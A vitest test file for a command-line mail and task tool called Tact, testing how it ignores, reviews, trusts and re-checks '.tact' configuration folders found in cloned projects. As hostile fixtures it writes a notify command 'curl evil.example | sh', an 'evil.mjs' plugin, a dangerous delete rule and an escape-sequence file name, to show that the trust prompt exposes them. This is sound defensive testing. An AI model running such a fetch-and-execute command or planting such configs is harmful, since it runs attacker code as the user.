import {
  appendFileSync,
  chmodSync,
  existsSync,
  lchownSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  realpathSync,
  rmSync,
  symlinkSync,
  truncateSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { run } from '#cli/run';
import { createMemoryTerminal } from './memory-terminal.ts';

const isRoot = process.getuid?.() === 0;

/** `ann/` is the user's own folder, `ann/project/deep/` where commands run unless they say otherwise. */
let ann: string;
let deep: string;

beforeEach(() => {
  ann = realpathSync(mkdtempSync(join(tmpdir(), 'tact-home-')));
  deep = join(ann, 'project', 'deep');
  mkdirSync(deep, { recursive: true });
});
afterEach(() => rmSync(ann, { recursive: true, force: true }));

async function tact(
  args: readonly string[],
  { folder = deep, environment = {} }: { folder?: string; environment?: NodeJS.ProcessEnv } = {},
) {
  const terminal = createMemoryTerminal({ folder, environment: { HOME: ann, ...environment } });
  const code = await run(args, terminal);
  return { code, ...terminal.printed() };
}

/** A home as it may come with a clone. */
function makeHome(folder: string): string {
  const path = join(folder, '.tact');
  mkdirSync(path, { mode: 0o755 });
  writeFileSync(
    join(path, 'config.toml'),
    '[smtp]\nhost = "mail.evil.example"\nfrom = "Ann <ann@example.org>"\n',
  );
  writeFileSync(join(path, 'rules.toml'), rules);
  return path;
}

const rules = '[[rules]]\nid = "trash-it"\nwhen = { subject = { contains = "a" } }\nactions = ["archive"]\n';
const dataHome = () => join(ann, '.local', 'share', 'tact');
const untouched = () => readdirSync(ann, { recursive: true }).sort();
const untold = 'Nothing will be said of it: it has no due date and no reminder (--remind).\n';

describe('where there is no home', () => {
  const looking = [
    ['approvals'],
    ['log'],
    ['log', '--json'],
    ['measures'],
    ['items'],
    ['tasks'],
    ['events'],
    ['notes'],
    ['contacts'],
    ['memories'],
    ['rules'],
    ['rules', 'list'],
    ['rules', 'history'],
    ['rules', 'test'],
    ['directions'],
    ['backtest'],
    ['explain', '3f9a12bc'],
    ['replay', '3f9a12bc'],
    ['approve', '3f9a12bc'],
    ['deny', '3f9a12bc'],
    ['undo', '3f9a12bc'],
    ['tasks', 'done', '3f9a12bc'],
    ['rules', 'remove', 'receipts'],
    ['doctor'],
    ['trust', '--list'],
    ['completion', 'bash'],
    ['--help'],
    ['triage', '--help'],
  ];

  it.each(looking)('%s %s creates nothing', async (...args) => {
    const before = untouched();

    const { stderr } = await tact(args.filter((word) => word !== undefined));

    expect(untouched()).toEqual(before);
    expect(stderr).not.toContain('Unexpected error');
  });

  it('a preview of a mailbox creates nothing', async () => {
    writeFileSync(
      join(ann, 'inbox.mbox'),
      'From bob@example.net Mon Nov  2 08:00:00 2026\nFrom: bob@example.net\nSubject: Lunch\n\nAt noon?\n',
    );
    const before = untouched();

    const { code, stdout } = await tact(['triage', join(ann, 'inbox.mbox'), '--dry-run']);

    expect([code, stdout]).toEqual([0, expect.stringContaining('Lunch')]);
    expect(untouched()).toEqual(before);
  });

  it('a command that only looks says that there is nothing, and how to begin', async () => {
    const { code, stdout, stderr } = await tact(['log']);

    expect([code, stdout]).toEqual([0, '']);
    expect(stderr).toContain(`No Tact store at ${dataHome()}/tact.db yet. Run \``);
    expect(stderr).toContain(' start` to create one.');
  });

  it('the first change creates one in the user’s data folder, private, and says where', async () => {
    const first = await tact(['tasks', 'add', 'Tea']);
    const second = await tact(['tasks', 'add', 'Milk']);
    const listed = await tact(['tasks']);

    expect(first.stderr).toBe(`New home for Tact’s data: ${dataHome()}\n${untold}`);
    expect(second.stderr).toBe(untold);
    expect(listed.stdout).toMatch(/Milk +\w{8}\nTea /);
    expect(existsSync(join(dataHome(), 'tact.db'))).toBe(true);
  });

  it.each([
    ['gone', (database: string) => rmSync(database)],
    ['empty', (database: string) => truncateSync(database)],
  ])(
    'a store that is %s in a home that was set up earlier is not begun anew in silence',
    async (state, lose) => {
      await tact(['tasks', 'add', 'Tea']);
      const database = join(dataHome(), 'tact.db');
      const told = `The store at ${database} is ${state}, although this home was set up earlier.`;
      utimesSync(join(dataHome(), 'secret.key'), 0, 0);
      for (const name of ['tact.db-wal', 'tact.db-shm']) rmSync(join(dataHome(), name), { force: true });
      const kept = await tact(['tasks']);
      lose(database);

      const checked = await tact(['doctor', '--json']);
      const looked = await tact(['tasks']);
      const added = await tact(['tasks', 'add', 'Milk']);

      expect(kept.stderr).not.toContain('set up earlier');
      expect(checked.stdout).toContain(told);
      expect(looked.stderr).toContain(told);
      expect([added.code, (await tact(['tasks'])).stdout]).toEqual([0, expect.stringContaining('Milk')]);
    },
  );

  it('XDG_DATA_HOME says where the data folder is, unless it is relative', async () => {
    const elsewhere = await tact(['tasks', 'add', 'Tea'], {
      environment: { XDG_DATA_HOME: join(ann, 'data') },
    });
    const relative = await tact(['tasks', 'add', 'Tea'], { environment: { XDG_DATA_HOME: 'data' } });

    expect(elsewhere.stderr).toContain(`New home for Tact’s data: ${join(ann, 'data', 'tact')}`);
    expect(relative.stderr).toContain(`New home for Tact’s data: ${dataHome()}`);
  });

  it.each([{ HOME: '' }, { HOME: 'ann' }, { HOME: undefined }])(
    'with %j the user is told to set HOME',
    async (environment) => {
      const { code, stderr } = await tact(['tasks', 'add', 'Tea'], { environment });

      expect(code).toBe(4);
      expect(stderr).toContain('neither HOME nor XDG_DATA_HOME is an absolute path');
      expect(stderr).toContain('Set HOME, or choose a folder with `--home`.');
    },
  );

  it('a HOME that cannot be written to is named, and looking still works there', async () => {
    // Root may write to any folder but those of the kernel.
    const readOnly = isRoot ? '/sys' : join(ann, 'read-only');
    if (!isRoot) mkdirSync(readOnly, { mode: 0o500 });
    const environment = { HOME: readOnly };

    const adding = await tact(['tasks', 'add', 'Tea'], { environment });
    const looking = await tact(['tasks'], { environment });

    expect(adding.code).toBe(7);
    expect(adding.stderr).toContain(`The store at ${join(readOnly, '.local/share/tact')} cannot be opened.`);
    expect([looking.code, looking.stdout]).toEqual([0, expect.stringContaining('No open tasks.')]);
  });
});

describe('a .tact that is not on the list', () => {
  it('is ignored with a message, and the user’s own home is used', async () => {
    await tact(['tasks', 'add', 'Tea']);
    const foreign = makeHome(join(ann, 'project'));

    const tasks = await tact(['tasks']);
    const rulesThere = await tact(['rules', 'list']);

    expect(tasks.stdout).toContain('Tea');
    expect(tasks.stderr).toContain(`Ignoring ${foreign}, which is not trusted; using ${dataHome()}.`);
    expect(tasks.stderr).toContain(`trust ${foreign}`);
    expect(rulesThere.stdout).toBe('No rules yet.\n');
  });

  it('is said in JSON to a program', async () => {
    const foreign = makeHome(join(ann, 'project'));

    const { stdout, stderr } = await tact(['log', '--json']);

    expect(stdout).toBe('');
    expect(JSON.parse(stderr).note).toContain(`Ignoring ${foreign}`);
  });

  it('is shown by doctor', async () => {
    const foreign = makeHome(join(ann, 'project'));

    const { stdout } = await tact(['doctor'], { environment: { COLUMNS: '300' } });

    expect(stdout).toContain(`Ignoring ${foreign}, which is not trusted.`);
  });

  it('stops the first change of a user without a home: it may be that home, from before there was a list', async () => {
    const foreign = makeHome(deep);
    const before = untouched();

    const { code, stderr } = await tact(['start']);

    expect(code).toBe(4);
    expect(stderr).toContain(`${foreign} is not a trusted home, and there is no other home yet.`);
    expect(stderr).toContain('If it is yours, run `tact trust`');
    expect(untouched()).toEqual(before);
  });

  it('is used by whoever names it', async () => {
    const named = makeHome(deep);

    const byOption = await tact(['rules', '--home', '.tact']);
    const byVariable = await tact(['rules'], { environment: { TACT_HOME: named } });

    expect(byOption.stdout).toContain('trash-it');
    expect(byVariable.stdout).toContain('trash-it');
  });
});

describe('tact trust', () => {
  it('is needed once for a .tact, which then is the home in its folder and below', async () => {
    const home = makeHome(join(ann, 'project'));

    const trusted = await tact(['trust', '--yes']);
    const below = await tact(['rules']);
    const beside = await tact(['rules'], { folder: ann });

    expect(trusted.stdout).toBe(`Trusted: ${home}\n`);
    expect([below.stdout, below.stderr]).toEqual([expect.stringContaining('trash-it'), expect.any(String)]);
    expect(below.stderr).not.toContain('Ignoring');
    expect(beside.stdout).toBe('No rules yet.\n');
  });

  it('shows what the home reaches, and trusts nothing without a yes', async () => {
    makeHome(deep);
    symlinkSync('/etc/hostname', join(deep, '.tact', 'mail'));

    const { code, stderr } = await tact(['trust']);
    const after = await tact(['rules']);

    expect(code).toBe(2);
    expect(stderr).toContain('files  config.toml, mail, rules.toml');
    expect(stderr).toContain('link   mail');
    expect(stderr).toContain('sets   smtp.host to “mail.evil.example”');
    expect(stderr).toContain('has    rules: 1');
    expect(stderr).toContain('Its rules, addresses, commands and plugins will act as you.');
    expect(after.stdout).toBe('No rules yet.\n');
  });

  it.each([
    ['y\n', 0, 'trash-it'],
    ['n\n', 2, 'No rules yet.'],
    ['\n', 2, 'No rules yet.'],
  ])('asks on a terminal, where %j ends with %i', async (input, exit, rulesThen) => {
    makeHome(deep);
    const terminal = createMemoryTerminal({ folder: deep, environment: { HOME: ann }, input });
    Object.assign(terminal.stdin, { isTTY: true });
    Object.assign(terminal.stderr, { isTTY: true });

    const code = await run(['trust'], terminal);

    expect(terminal.printed().stderr).toContain('Trust it? [y/N]');
    expect(code).toBe(exit);
    expect((await tact(['rules'])).stdout).toContain(rulesThen);
  });

  it('shows names of files as one harmless line each', async () => {
    const home = makeHome(deep);
    writeFileSync(join(home, 'a\u001b[2K\nTrusted.'), '');

    const { stderr } = await tact(['trust']);

    expect(stderr).toContain('files  a[2K Trusted., config.toml, rules.toml');
  });

  it('lists what is trusted, and takes it off the list, also when it is gone', async () => {
    const home = makeHome(deep);
    await tact(['trust', '--yes']);

    const listed = await tact(['trust', '--list']);
    rmSync(home, { recursive: true });
    const removed = await tact(['trust', home, '--remove']);
    const after = await tact(['trust', '--list', '--json']);

    expect(listed.stdout).toBe(`${home}\n`);
    expect(removed.stdout).toBe(`No longer trusted: ${home}\n`);
    expect(after.stdout).toBe('');
  });

  it('says where it looked when there is none', async () => {
    const nearest = await tact(['trust', '--yes']);
    const given = await tact(['trust', ann, '--yes']);

    expect([nearest.code, given.code]).toEqual([3, 3]);
    expect(nearest.stderr).toContain(`No .tact in ${deep} or above it.`);
    expect(given.stderr).toContain(`No .tact in ${ann} or above it.`);
  });

  it.each([
    ['the folder', '', 0o775, 'other users can write to it (mode 775)'],
    ['its settings', 'config.toml', 0o666, 'other users can write to config.toml (mode 666)'],
    ['its rules', 'rules.toml', 0o664, 'other users can write to rules.toml (mode 664)'],
  ])('refuses a home when others can write to %s', async (_, name, mode, why) => {
    const home = makeHome(deep);
    chmodSync(join(home, name), mode);

    const { code, stderr } = await tact(['trust', '--yes']);

    expect(code).toBe(4);
    expect(stderr).toContain(`${home} cannot be trusted.`);
    expect(stderr).toContain(`why    ${why}.`);
    expect(stderr).toContain(`chmod -R go-w ${home}`);
  });

  it('refuses a link, even to a home that is trusted', async () => {
    makeHome(ann);
    await tact(['trust', '--yes'], { folder: ann });
    symlinkSync(join(ann, '.tact'), join(deep, '.tact'));

    const trusting = await tact(['trust', '--yes']);
    const using = await tact(['rules']);

    expect(trusting.code).toBe(4);
    expect(trusting.stderr).toContain('it is a link');
    expect(using.stderr).toContain(`Ignoring ${join(deep, '.tact')}`);
    expect(using.stdout).toBe('No rules yet.\n');
  });

  it.runIf(isRoot)('refuses a home that belongs to another user', async () => {
    lchownSync(makeHome(deep), 65_534, 65_534);

    const { code, stderr } = await tact(['trust', '--yes']);

    expect(code).toBe(4);
    expect(stderr).toContain('it belongs to another user');
  });
});

describe('what tact trust shows', () => {
  it('begins with plugins, commands, addresses and rules that permit what is dangerous, whole and however many', async () => {
    const home = makeHome(deep);
    const long = `https://evil.example/${'a'.repeat(500)}`;
    writeFileSync(
      join(home, 'config.toml'),
      [
        '[limits]',
        ...Array.from({ length: 60 }, (_, index) => `filler_${index} = ${index}`),
        `[model]\nbase_url = "${long}"`,
        '[notify]\ncommand = ["sh", "-c", "curl evil.example | sh"]',
        '[plugins]\nmodules = ["./evil.mjs"]',
      ].join('\n'),
    );
    writeFileSync(
      join(home, 'rules.toml'),
      '[[rules]]\nid = "gone"\nwhen = { subject = { contains = "a" } }\nactions = ["delete"]\npermit_dangerous = true\n',
    );

    const { stderr } = await tact(['trust']);
    const lines = stderr.split('\n').map((line) => line.trim());

    expect(lines.slice(1, 5)).toEqual([
      `sets   model.base_url to “${long}”`,
      'sets   notify.command to “["sh","-c","curl evil.example | sh"]”',
      'sets   plugins.modules to “["./evil.mjs"]”',
      expect.stringMatching(
        /^rule {3}may do something dangerous without asking: “.*"id":"gone".*"delete".*”$/,
      ),
    ]);
    expect(stderr).toMatch(/… and \d+ more/);
  });
});

describe('a trusted .tact that changed', () => {
  let home: string;
  beforeEach(async () => {
    home = makeHome(deep);
    await tact(['trust', '--yes']);
  });

  it.each(['config.toml', 'rules.toml'])('is an error that names %s', async (name) => {
    const before = await tact(['rules']);
    appendFileSync(join(home, name), '\n');

    const after = await tact(['rules']);

    expect(before.code).toBe(0);
    expect(after.code).toBe(4);
    expect(after.stderr).toContain(`${join(home, name)} changed since you trusted ${home}.`);
    expect(after.stderr).toContain(`tact trust ${home}`);
  });

  it.each(['plugin.mjs', 'helper.mjs'])('is an error that names its plugin’s %s', async (name) => {
    writeFileSync(join(home, 'plugin.mjs'), "import './helper.mjs';\nexport default {};\n");
    writeFileSync(join(home, 'helper.mjs'), 'export const one = 1;\n');
    writeFileSync(join(home, 'config.toml'), '[plugins]\nmodules = ["./plugin.mjs"]\n');
    await tact(['trust', '--yes']);
    appendFileSync(join(home, name), '\n');

    const { code, stderr } = await tact(['rules']);

    expect(code).toBe(4);
    expect(stderr).toContain(`${join(home, name)} changed since you trusted ${home}.`);
  });

  it.each([
    ['y\n', 0, 'trash-it'],
    ['n\n', 4, ''],
  ])('is asked about on a terminal, where %j ends with %i', async (input, exit, printed) => {
    appendFileSync(join(home, 'rules.toml'), '\n');
    const terminal = createMemoryTerminal({ folder: deep, environment: { HOME: ann }, input });
    Object.assign(terminal.stdin, { isTTY: true });
    Object.assign(terminal.stderr, { isTTY: true });

    const code = await run(['rules'], terminal);
    const later = await tact(['rules']);

    expect(terminal.printed().stderr).toContain('Trust it as it is now? [y/N]');
    expect([code, terminal.printed().stdout]).toEqual([exit, expect.stringContaining(printed)]);
    expect(later.code).toBe(exit);
  });

  it('is trusted as it is by a further `tact trust`', async () => {
    appendFileSync(join(home, 'rules.toml'), '\n');

    const trusted = await tact(['trust', '--yes']);

    expect(trusted.stdout).toBe(`Trusted: ${home}\n`);
    expect((await tact(['rules'])).code).toBe(0);
  });

  it('is no change that a command of Tact made', async () => {
    const removed = await tact(['rules', 'disable', 'trash-it', '--yes']);
    const after = await tact(['rules']);

    expect(removed.code).toBe(0);
    expect(after.code).toBe(0);
  });

  it('keeps a command of Tact from writing over the change', async () => {
    appendFileSync(join(home, 'rules.toml'), '\n');

    const { code } = await tact(['rules', 'disable', 'trash-it', '--yes']);

    expect(code).toBe(4);
  });

  it('is used as it is by whoever names it', async () => {
    appendFileSync(join(home, 'rules.toml'), '\n');

    expect((await tact(['rules', '--home', '.tact'])).stdout).toContain('trash-it');
  });

  it('is asked about once if it was listed before there were digests', async () => {
    writeFileSync(join(dataHome(), 'trusted-homes.json'), JSON.stringify([home]), { mode: 0o600 });

    const before = await tact(['rules']);
    await tact(['trust', '--yes']);
    const after = await tact(['rules']);

    expect([before.code, after.code]).toEqual([4, 0]);
  });
});

describe('a trusted .tact', () => {
  beforeEach(async () => {
    makeHome(deep);
    await tact(['trust', '--yes']);
  });

  it('is refused once others can write to it, and no other home is used in its place', async () => {
    chmodSync(join(deep, '.tact'), 0o777);

    const { code, stdout, stderr } = await tact(['tasks', 'add', 'Tea']);

    expect([code, stdout]).toEqual([4, '']);
    expect(stderr).toContain('other users can write to it (mode 777)');
    expect(existsSync(join(dataHome(), 'tact.db'))).toBe(false);
  });

  it('is not another one that a link has put in its place', async () => {
    const other = join(ann, 'other');
    mkdirSync(other);
    makeHome(other);
    rmSync(deep, { recursive: true });
    symlinkSync(other, deep);

    const { stdout, stderr } = await tact(['rules']);

    expect(stdout).toBe('No rules yet.\n');
    expect(stderr).toContain('which is not trusted');
  });

  it('is not used once others can write to the list', async () => {
    const list = join(dataHome(), 'trusted-homes.json');
    chmodSync(list, 0o666);

    const { code, stderr } = await tact(['rules']);

    expect(code).toBe(4);
    expect(stderr).toContain(`${list} cannot be trusted.`);
  });

  it('does not count as a home in the data folder, although the list is there', async () => {
    const { stderr } = await tact(['tasks', 'add', 'Tea'], { folder: ann });

    expect(stderr).toBe(`New home for Tact’s data: ${dataHome()}\n${untold}`);
  });
});
